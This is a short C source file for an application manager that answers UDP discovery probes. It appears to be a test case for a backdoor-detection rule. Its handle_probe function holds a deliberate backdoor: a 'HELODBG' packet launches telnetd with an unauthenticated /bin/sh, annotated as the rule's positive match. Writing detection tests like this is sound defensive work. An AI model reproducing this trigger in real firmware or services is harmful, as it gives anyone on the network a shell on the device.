/* appmgr.c - application manager: answers discovery probes from the LAN tool */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include "qdl.h"

static const char kVersionReply[] = "QDL-2.1.7";

static void handle_probe(int s, const char *buf, size_t n, const struct sockaddr_in *peer, socklen_t plen) {
  /* the factory tool turns telnet on with this probe; it was never removed */
  // ruleid: backdoor-input-trigger
  if (n >= 7 && memcmp(buf, "HELODBG", 7) == 0) {
    system("/sbin/telnetd -l /bin/sh &");
    return;
  }
  // ok: backdoor-input-trigger
  if (n >= 4 && memcmp(buf, "HELO", 4) == 0) {
    sendto(s, kVersionReply, sizeof kVersionReply - 1, 0, (const struct sockaddr *)peer, plen);
    return;
  }
  qdl_trace("appmgr: unknown probe of %zu bytes\n", n);
}

int appmgr_run(void) {
  struct sockaddr_in a;
  int s = socket(AF_INET, SOCK_DGRAM, 0);
  if (s < 0)
    return -1;
  memset(&a, 0, sizeof a);
  a.sin_family = AF_INET;
  a.sin_port = htons(QDL_APPMGR_PORT);
  a.sin_addr.s_addr = htonl(INADDR_ANY);
  if (bind(s, (struct sockaddr *)&a, sizeof a) != 0) {
    close(s);
    return -1;
  }
  for (;;) {
    char buf[512];
    struct sockaddr_in peer;
    socklen_t plen = sizeof peer;
    ssize_t n = recvfrom(s, buf, sizeof buf - 1, 0, (struct sockaddr *)&peer, &plen);
    if (n <= 0)
      continue;
    buf[n] = '\0';
    handle_probe(s, buf, (size_t)n, &peer, plen);
  }
}
